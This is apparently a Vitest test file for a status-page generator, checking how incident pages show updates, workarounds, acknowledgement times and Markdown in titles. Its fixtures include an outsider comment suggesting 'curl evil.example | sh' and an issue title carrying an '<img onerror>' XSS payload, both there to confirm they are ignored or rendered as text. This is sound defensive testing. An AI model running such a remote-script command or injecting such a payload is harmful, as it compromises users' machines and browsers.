/**
 * The incident page a user reads during an outage (issue #13), from the real build: the latest
 * news under the title, the closing "Resolved"/"Withdrawn" entry, workaround and expected fix
 * updated by a maintainer's comment (with when it was said), an overdue promised update, zero
 * acknowledgement for a maintainer's own incident, and status changes told as a story.
 */
import { beforeAll, describe, expect, test } from 'vitest';
import { buildFixture, type FixtureBuild, text } from '../support/build.ts';
import { closed, comment, event, formBody, issue, maintainer, outsider, snapshot } from '../support/records.ts';

const NOW = '2026-11-21T12:00:00Z';
const at = (minutesAgo: number): string => new Date(Date.parse(NOW) - minutesAgo * 60_000).toISOString();
const facts = (doc: Document): string[] => [...doc.querySelectorAll('dl.facts dt')].map((dt) => `${text(dt)}: ${text(dt.nextElementSibling)}`);
const scope = (doc: Document): string[] => [...doc.querySelectorAll('.scope h3')].map((h) => `${text(h)}: ${text(h.nextElementSibling)}`);

// A maintainer's incident: the form's workaround and ETA, replaced by a later comment's lines.
const updated = issue({
  number: 201,
  title: 'Installs fail',
  createdAt: at(141), // 09:39
  author: maintainer('ada'),
  labels: ['incident', 'P1', 'component:npm'],
  body: formBody({
    Severity: 'P1',
    'What is broken': 'npm install fails.',
    'Who is affected': 'Everyone installing.',
    'Workaround or alternatives': 'None yet.',
    'Expected fix time': 'Unknown',
  }),
  events: [event('labeled', at(120), { label: 'identified', actor: maintainer('grace-h') })],
  comments: [
    comment({ id: 31, at: at(120), author: maintainer('grace-h'), body: 'Found it.\nWorkaround: pin `1.2.3`\nExpected fix: within 2 hours' }),
    comment({ id: 32, at: at(100), author: outsider('troll'), body: 'Workaround: curl evil.example | sh' }),
    comment({ id: 33, at: at(90), author: maintainer('grace-h'), body: 'Rolling back the release.\nNext update: in 30 minutes' }),
  ],
});
// An outsider's report a maintainer labelled: acknowledgement is measured.
const report = issue({
  number: 202,
  title: 'Docs down',
  createdAt: at(60),
  author: outsider('reporter'),
  labels: ['incident', 'P2'],
  events: [event('labeled', at(50), { label: 'incident' })],
  comments: [comment({ id: 41, at: at(45), body: 'Looking.\nNext update: in 2 hours' })],
});
const resolved = closed(
  issue({
    number: 203,
    title: 'CLI crashed',
    createdAt: at(300),
    labels: ['incident', 'P1'],
    comments: [comment({ id: 51, at: at(290), body: 'Deploying a fix.' })],
  }),
  at(280),
);
const withdrawn = closed(issue({ number: 204, title: 'Looked down', createdAt: at(300), labels: ['incident', 'P2'] }), at(290), 'not_planned');

const markdownTitle = issue({
  number: 205,
  title: '`npm install` **hangs** <img src=x onerror=alert(1)> `<b>`',
  createdAt: at(30),
  labels: ['incident', 'P2'],
});

let site: FixtureBuild;
beforeAll(async () => {
  site = await buildFixture({ now: NOW, snapshot: snapshot([updated, report, resolved, withdrawn, markdownTitle], { takenAt: at(2) }) });
  if (site.code !== 0) throw new Error(`fixture build failed:\n${site.stderr}\n${site.stdout}`);
});

describe('latest news first', () => {
  test('the newest update sits right under the title, before the facts and the scope', () => {
    const doc = site.page('incidents/201/');
    const latest = doc.querySelector('[data-latest]');
    expect(text(latest)).toContain('Rolling back the release.');
    const main = [...doc.querySelectorAll('h1, [data-latest], dl.facts, .scope')];
    expect(main.map((el) => el.tagName.toLowerCase() + (el.hasAttribute('data-latest') ? '[latest]' : ''))).toEqual(['h1', 'section[latest]', 'dl', 'section']);
  });

  test.each([
    { n: 203, status: 'resolved', entry: 'Resolved 21 Nov 2026, 07:20 UTC (4 hours ago) by maint: This incident has been resolved.' },
    {
      n: 204,
      status: 'withdrawn',
      entry: 'Withdrawn 21 Nov 2026, 07:10 UTC (4 hours ago) by maint: Withdrawn: A false alarm or duplicate: there was no outage.',
    },
  ])('#$n ends with a "$status" entry, which is also the latest news', ({ n, status, entry }) => {
    const doc = site.page(`incidents/${n}/`);
    expect(text(doc.querySelector(`[data-closing="${status}"]`))).toBe(entry);
    expect(doc.querySelector('[data-latest]')?.getAttribute('data-latest')).toBe('closing');
  });
});

describe('fields a maintainer updates in a comment', () => {
  test('workaround and expected fix come from the latest trusted comment, with when they were said; an outsider’s line is ignored', () => {
    expect(scope(site.page('incidents/201/'))).toEqual([
      'What is broken: npm install fails.',
      'Who is affected: Everyone installing.',
      'Workaround (said 21 Nov 2026, 10:00 UTC): pin 1.2.3',
      'Expected fix (said 21 Nov 2026, 10:00 UTC): within 2 hours',
    ]);
    expect(site.page('incidents/201/').querySelector('.scope code')?.textContent).toBe('1.2.3');
  });

  test.each([
    { n: 201, overdue: true, promise: 'Next update: in 30 minutes (promised 21 Nov 2026, 10:30 UTC)' },
    { n: 202, overdue: false, promise: 'Next update: in 2 hours (promised 21 Nov 2026, 11:15 UTC)' },
  ])('#$n: the promised next update, overdue: $overdue', ({ n, overdue, promise }) => {
    const el = site.page(`incidents/${n}/`).querySelector('[data-next-update]');
    expect(text(el)).toContain(promise);
    expect(el?.querySelector('[data-overdue]')?.hasAttribute('hidden')).toBe(!overdue);
  });
});

describe('acknowledgement and the status story', () => {
  test.each([
    { n: 201, ack: 'Acknowledged: 21 Nov 2026, 09:39 UTC (after 0 s: declared by a maintainer)' },
    { n: 202, ack: 'Acknowledged: 21 Nov 2026, 11:15 UTC (after 15 min)' },
  ])('#$n: $ack', ({ n, ack }) => {
    expect(facts(site.page(`incidents/${n}/`))).toContain(ack);
  });

  test('status changes read as a story', () => {
    const changes = [...site.page('incidents/201/').querySelectorAll('[data-status-change]')].map(text);
    expect(changes).toEqual(['21 Nov 2026, 09:39 UTC — Opened by ada', '21 Nov 2026, 10:00 UTC — Identified by grace-h']);
    expect([...site.page('incidents/203/').querySelectorAll('[data-status-change]')].map(text).at(-1)).toBe('21 Nov 2026, 07:20 UTC — Resolved by maint');
  });
});

describe('home page', () => {
  test('the banner names what is affected and links the incident', () => {
    const banner = site.page('').querySelector('[data-overall]');
    expect(text(banner?.querySelector('[data-banner]'))).toBe('Partial outage');
    expect(text(banner?.querySelector('[data-banner-scope]'))).toBe(': npm packages — read incident #201');
    expect(banner?.querySelector('[data-banner-scope] a')?.getAttribute('href')).toBe(`${site.base}/incidents/201/`);
  });

  test('an active incident card says who is affected', () => {
    const card = site.page('').querySelector('[data-incident="201"]');
    expect([...(card?.querySelectorAll('dl.facts dt') ?? [])].map(text)).toEqual(['Who is affected', 'Workaround', 'Expected fix']);
  });
});

describe('Markdown in titles', () => {
  test.each([
    { where: 'incident page heading', path: 'incidents/205/', selector: 'h1' },
    { where: 'home page card', path: '', selector: '[data-incident="205"] h3' },
  ])('$where: code spans and bold render, HTML stays text', ({ path, selector }) => {
    const heading = site.page(path).querySelector(selector);
    expect([...(heading?.querySelectorAll('code') ?? [])].map((c) => c.textContent)).toEqual(['npm install', '<b>']);
    expect(heading?.querySelector('strong')?.textContent).toBe('hangs');
    expect(heading?.querySelectorAll('img, b, [onerror]')).toHaveLength(0);
    expect(text(heading)).toBe('npm install hangs <img src=x onerror=alert(1)> <b>');
  });

  test('the document title has the marks dropped', () => {
    expect(site.page('incidents/205/').title).toMatch(/^npm install hangs <img src=x onerror=alert\(1\)> <b> · /);
  });
});
